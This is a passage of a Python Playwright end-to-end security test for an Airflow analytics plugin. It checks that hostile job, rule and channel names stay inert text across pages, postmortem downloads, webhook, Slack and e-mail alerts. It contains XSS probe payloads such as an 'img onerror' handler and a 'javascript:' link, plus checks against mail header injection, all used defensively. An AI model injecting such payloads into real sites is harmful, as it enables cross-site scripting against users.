    row = widget.locator(f"[data-testid=flowlytics-widget-row][data-batch-id='{sweep.plain_batch}']")
    shows(row, ROOT, ENV)
    sweep.check_page()
    row.get_by_test_id("flowlytics-widget-link").click()
    page.wait_for_url(re.compile(r".*/plugin/flowlytics_batch_health\?batch="))
    expect(page.get_by_test_id("flowlytics-batch-view")).to_have_attribute("data-batch-id", sweep.plain_batch)
    shows(page.get_by_test_id("flowlytics-batch-title"), ROOT)


def _sweep_incident_row(page: Any) -> Any:
    """The incident of the sweep's rule on the failed hostile job (its title names LOAD)."""
    return page.locator("[data-testid=flowlytics-incident-row]", has_text="swpload").first


def view_alerts(sweep: Sweep) -> None:
    """The Alerts page (issue 12): incidents whose subject, title and runs come from the hostile events; a
    hostile note added through the page; the timeline, which names the rule and the channels; the postmortem
    downloads (Markdown that renders no markup of a name, JSON that keeps the names exactly)."""
    from playwright.sync_api import expect

    page = sweep.page
    sweep.goto("/plugin/flowlytics_alerts")
    row = _sweep_incident_row(page)
    expect(row).to_be_visible()
    expect(row).to_contain_text(IMG)  # the payload arrived, as text
    sweep.check_page()
    row.click()
    detail = page.get_by_test_id("flowlytics-incident-detail")
    expect(detail).to_contain_text(IMG)
    expand_details(detail)
    timeline = page.get_by_test_id("flowlytics-timeline")
    expect(timeline).to_be_visible()
    expect(timeline).to_contain_text(f"Opened by rule {RULE!r}")
    # Every channel took its message; the timeline names them (hostile names, as text).
    delivered = timeline.locator("li", has_text=f"opened message delivered via {CHANNEL} webhook")
    expect(delivered).to_have_count(1, timeout=120_000)
    shows(timeline, f"{CHANNEL} webhook")
    sweep.check_page()
    detail.get_by_test_id("flowlytics-incident-note").fill(INCIDENT_NOTE)
    detail.get_by_role("button", name="Add note").click()
    shows(timeline, INCIDENT_NOTE)
    sweep.check_page()
    with page.expect_download() as download:
        detail.get_by_role("link", name="Postmortem (Markdown)").click()
    markdown = Path(download.value.path()).read_text(encoding="utf-8")
    (ARTIFACTS / "e2e-security-sweep-postmortem.md").write_text(markdown, encoding="utf-8")
    assert_inert_markdown(markdown, "swpload", "swpincnote", "swprule")
    with page.expect_download() as download:
        detail.get_by_role("link", name="JSON").click()
    exported = json.loads(Path(download.value.path()).read_text(encoding="utf-8"))
    assert exported["incident"]["subject"] == job_id(ROOT) or job_id(LOAD) in {
        r["jobNodeId"] for r in exported["incident"]["runs"]
    }, exported["incident"]
    assert INCIDENT_NOTE in [e["message"] for e in exported["timeline"] if e["kind"] == "note"]
    sweep.check_page()


def assert_inert_markdown(markdown: str, *texts: str) -> None:
    """The postmortem as a CommonMark reader renders it: headings and lists of its own only, no HTML, link
    or image of a name, and the names there as text."""
    from markdown_it import MarkdownIt

    html = MarkdownIt("commonmark").enable("table").enable("strikethrough").render(markdown)
    tags, shown = read_html(html)
    assert_postmortem_outline(tags, html)
    assert IMG in shown and SVG in shown, shown
    for text in texts:
        assert text in shown, text


def view_alerts_admin(sweep: Sweep) -> None:
    """The Alerts page's admin part: channels, rules, snoozes and mutes, the owner map, each hostile name shown
    as text (or held in a form field); the rule and channel editors; a channel's "Send test"."""
    from playwright.sync_api import expect

    assert sweep.alerting is not None
    page = sweep.page
    sweep.goto("/plugin/flowlytics_alerts")
    expect(page.get_by_test_id("flowlytics-alerts-admin")).to_have_attribute("data-can-edit", "true")
    channel_rows = page.locator("[data-testid=flowlytics-channel-row]").filter(has_text="swpchannel")
    expect(channel_rows).to_have_count(len(sweep.alerting.channels))
    for kind in sweep.alerting.channels:
        shows(channel_rows.filter(has_text=f"{CHANNEL} {kind}"), f"{CHANNEL} {kind}")
    rule_row = page.locator(f"[data-testid=flowlytics-rule-row][data-rule-id='{sweep.alerting.rule}']")
    shows(rule_row, RULE, f"namespaces {NS}", f"{CHANNEL} webhook")
    muted_row = page.locator(f"[data-testid=flowlytics-rule-row][data-rule-id='{sweep.alerting.muted_rule}']")
    shows(muted_row, MUTED_RULE, f"owners {OWNER}")
    silences = page.locator("[data-testid=flowlytics-silence]").filter(has_text="swpreason")
    expect(silences).to_have_count(2)
    shows(silences.filter(has_text="muted"), f"rule {MUTED_RULE}", f"({REASON})")
    shows(silences.filter(has_text="snoozed"), f"on {job_id(AUDIT)}", f"({REASON})")
    silence_rules = page.get_by_test_id("flowlytics-silence-form").locator("select[name=ruleId] option")
    assert RULE in silence_rules.all_text_contents()
    owners = page.locator("[data-testid=flowlytics-owner-route]")
    values = owners.locator("input").evaluate_all("inputs => inputs.map(i => i.value)")
    assert OWNER in values, values
    route = owners.nth(values.index(OWNER))
    expect(route.locator("select option:checked")).to_have_text(f"{CHANNEL} webhook")
    sweep.check_page()
    # The editors hold the names in their fields, as values.
    rule_row.get_by_role("button", name="Edit").click()
    form = page.get_by_test_id("flowlytics-rule-form")
    expect(form.locator("input[name=name]")).to_have_value(RULE)
    expect(form.locator("input[name=namespaces]")).to_have_value(NS)
    shows(form.get_by_test_id("flowlytics-rule-channels"), f"{CHANNEL} webhook", f"{CHANNEL} slack")
    sweep.check_page()
    form.get_by_role("button", name="Cancel").click()
    webhook_row = page.locator(
        f"[data-testid=flowlytics-channel-row][data-channel-id='{sweep.alerting.channels['webhook']}']"
    )
    webhook_row.get_by_role("button", name="Edit").click()
    channel_form = page.get_by_test_id("flowlytics-channel-form")
    expect(channel_form.locator("input[name=name]")).to_have_value(f"{CHANNEL} webhook")
    sweep.check_page()
    channel_form.get_by_role("button", name="Cancel").click()
    # Send test: the receiver gets the test message under the channel's exact name.
    before = len(sweep.alerting.receiver.requests)
    webhook_row.get_by_role("button", name="Send test").click()
    result = webhook_row.get_by_test_id("flowlytics-channel-test-result")
    expect(result).to_have_attribute("data-delivered", "true")
    tests = [r.json() for r in sweep.alerting.receiver.requests[before:] if r.path == "/hook"]
    assert any(t["event"] == "test" and f"{CHANNEL} webhook" in t["title"] for t in tests), tests


def view_analytics(sweep: Sweep) -> None:
    """The Analytics page (issue 11): the failing hostile batch in the rankings, its process's error in the
    error categories (with the job's name)."""
    from playwright.sync_api import expect

    page = sweep.page
    sweep.goto("/plugin/flowlytics_analytics?ranking=failing")
    view = page.get_by_test_id("flowlytics-analytics")
    expect(view.get_by_test_id("flowlytics-kpi")).to_have_count(6)
    expect(view.get_by_test_id("flowlytics-analytics-chart").locator("canvas")).to_be_visible()
    ranked = view.get_by_test_id("flowlytics-analytics-rankings-row").filter(has_text="swproot")
    expect(ranked.first).to_contain_text(IMG)  # the payload arrived, as text
    category = view.get_by_test_id("flowlytics-analytics-errors-row").filter(has_text="swperror")
    expect(category.first).to_contain_text("swpload")
    expect(category.first).to_contain_text(IMG)
    sweep.check_page()


@dataclass(frozen=True)
class View:
    name: str
    open: Callable[[Sweep], None]


VIEWS = [
    View("flowlytics-runs", view_runs),
    View("lineage-search-panel", view_lineage_search_and_panel),
    View("lineage-columns", view_lineage_columns),
    View("batch-health", view_batch_health),
    View("batch-dq-trends", view_batch_dq_and_trends),
    View("batch-csv", view_batch_csv),
    View("dag-tab", view_dag_tab),
    View("dag-run-tab", view_dag_run_tab),
    View("task-tab", view_task_tab),
    View("dashboard-widget", view_dashboard_widget),
    View("alerts", view_alerts),
    View("alerts-admin", view_alerts_admin),
    View("analytics", view_analytics),
    # Analytics, Alerts, Workflow drafts (other open issues): one View(...) line each here.
]


@pytest.fixture(scope="module")
def sweep(airflow: Airflow, mail_capture: MailCapture | None) -> Iterator[Sweep]:
    with http_receiver() as receiver:
        yield from _sweep(airflow, receiver, mail_capture)


def _sweep(airflow: Airflow, receiver: HttpReceiver, mail_capture: MailCapture | None) -> Iterator[Sweep]:
    require_chromium()
    from playwright.sync_api import expect

    # Assertions wait as long as actions do (also set for every e2e test by conftest.patient_assertions).
    expect.set_options(timeout=TIMEOUT_MS)
    ARTIFACTS.mkdir(exist_ok=True)
    dag_run_id = create_paused_dag_run(airflow)
    now = datetime.now(timezone.utc)
    airflow_batch, airflow_events = airflow_batch_events(dag_run_id, now - timedelta(minutes=3))
    newest = newest_batch_start(airflow)
    plain_start = max(now - timedelta(seconds=50), (newest or now) + timedelta(seconds=1))
    plain_batch, plain_events = plain_batch_events(plain_start)  # the newest: in the widget
    alerting = set_up_alerts(airflow, receiver, mail_capture)
    post_events(airflow, airflow_events + plain_events)
    edit_metadata(airflow)
    with headless_chromium() as chromium:
        context = chromium.new_context(viewport={"width": 1600, "height": 1000}, accept_downloads=True)
        state = Sweep(
            page=None,
            airflow=airflow,
            plain_batch=plain_batch,
            airflow_batch=airflow_batch,
            dag_run_id=dag_run_id,
            alerting=alerting,
        )
        context.expose_binding("__flowlyticsSweepPwned", lambda source, url: state.pwned.append(url))
        context.add_init_script(PWNED_TRAP)
        page = context.new_page()
        page.set_default_timeout(TIMEOUT_MS)
        state.page = page

        def on_dialog(dialog: Any) -> None:
            state.dialogs.append(f"{dialog.type}: {dialog.message}")
            dialog.dismiss()

        page.on("dialog", on_dialog)
        page.on("pageerror", lambda error: state.errors.append(str(error)))
        log_in(page, airflow, "/plugin/flowlytics")
        assert page.evaluate("typeof window.__pwned") == "undefined"
        try:
            yield state
        finally:
            expect.set_options(timeout=TIMEOUT_MS)
        print(f"\nsecurity sweep: {len(state.checked)} page states checked, {len(VIEWS)} views")


def test_alert_messages_keep_hostile_names_as_text(sweep: Sweep) -> None:
    """What the real plugin sent for the hostile incident: the webhook's JSON with the names exactly, a Slack
    payload in which no name is a mention, link or markup, an e-mail whose subject is one line and whose
    plain-text body shows the names as text."""
    assert sweep.alerting is not None
    alerting = sweep.alerting

    def sent(path: str) -> list[Any]:
        return [r.json() for r in alerting.receiver.requests if r.path == path and r.json().get("event") != "test"]

    hooks = wait_until(
        "the sweep's webhook message",
        lambda: [d for d in sent("/hook") if d.get("rule") and d["rule"]["name"] == RULE],
        120.0,
    )
    document = hooks[0]
    assert document["title"].startswith(f"{LOAD} failed: ") and ERROR in document["title"]
    assert job_id(LOAD) in {run["jobNodeId"] for run in document["runs"]}
    assert ERROR in {run["errorMessage"] for run in document["runs"]}
    slack = wait_until(
        "the sweep's Slack message", lambda: [p for p in sent("/services/T0/B0/sweep") if "swpload" in p["text"]], 120.0
    )[0]
    section = slack["blocks"][1]["text"]["text"]
    for mrkdwn in (slack["text"], section):
        assert "<" not in mrkdwn and ">" not in mrkdwn, mrkdwn  # &lt;img ...&gt;: neither a mention nor a link
        assert "&lt;img src=x onerror=window.__pwned=1&gt;" in mrkdwn
    assert section.startswith("```") and "```" not in section[3:-3]
    if alerting.mail is None or alerting.mail_to is None:
        return
    mail = wait_until("the sweep's e-mail", lambda: alerting.mail.to(alerting.mail_to), 120.0)[0]  # type: ignore[union-attr,arg-type]
    assert "\n" not in mail.subject and "\r" not in mail.subject and "swpload" in mail.subject, mail.subject
    assert IMG in mail.text and ERROR in mail.text, mail.text
    assert all(not line.startswith(("<", "Bcc:")) for line in mail.text.splitlines()), mail.text


def test_the_trap_sees_an_injection(sweep: Sweep) -> None:
    """The checks can fail: markup injected on purpose is caught by every one of them."""
    page = sweep.page
    sweep.goto("/plugin/flowlytics")
    page.get_by_test_id("flowlytics-runs-page").wait_for()
    page.evaluate(
        """() => {
          const box = document.createElement("div");
          box.id = "flowlytics-sweep-probe";
          box.innerHTML = '<img src=x onerror=window.__pwned=1><a href=" JaVaScRiPt:void(0)">x</a>';
          document.body.appendChild(box);
        }"""
    )
    deadline = time.monotonic() + 10
    while not sweep.pwned and time.monotonic() < deadline:
        page.wait_for_timeout(100)
    problems = page.evaluate(DOM_PROBLEMS)
    assert sweep.pwned == [page.url]
    assert any("window.__pwned" in p for p in problems), problems
    assert any("injected element" in p for p in problems), problems
    assert any("inline handler onerror" in p for p in problems), problems
    assert any("unsafe link" in p for p in problems), problems
    sweep.pwned.clear()
    page.reload()
    page.get_by_test_id("flowlytics-runs-page").wait_for()
    assert page.evaluate(DOM_PROBLEMS) == []


@pytest.mark.parametrize("view", VIEWS, ids=[v.name for v in VIEWS])
def test_untrusted_text_stays_text(sweep: Sweep, view: View) -> None:
    try:
        view.open(sweep)
        sweep.check_page()
        sweep.page.screenshot(path=str(ARTIFACTS / f"e2e-security-sweep-{view.name}.png"), full_page=True)
    except BaseException:
        try:
            sweep.page.screenshot(path=str(ARTIFACTS / f"e2e-security-sweep-{view.name}-failure.png"), full_page=True)
        except Exception as error:  # the screenshot must not hide the real failure
            print(f"(no failure screenshot: {error})")
        raise
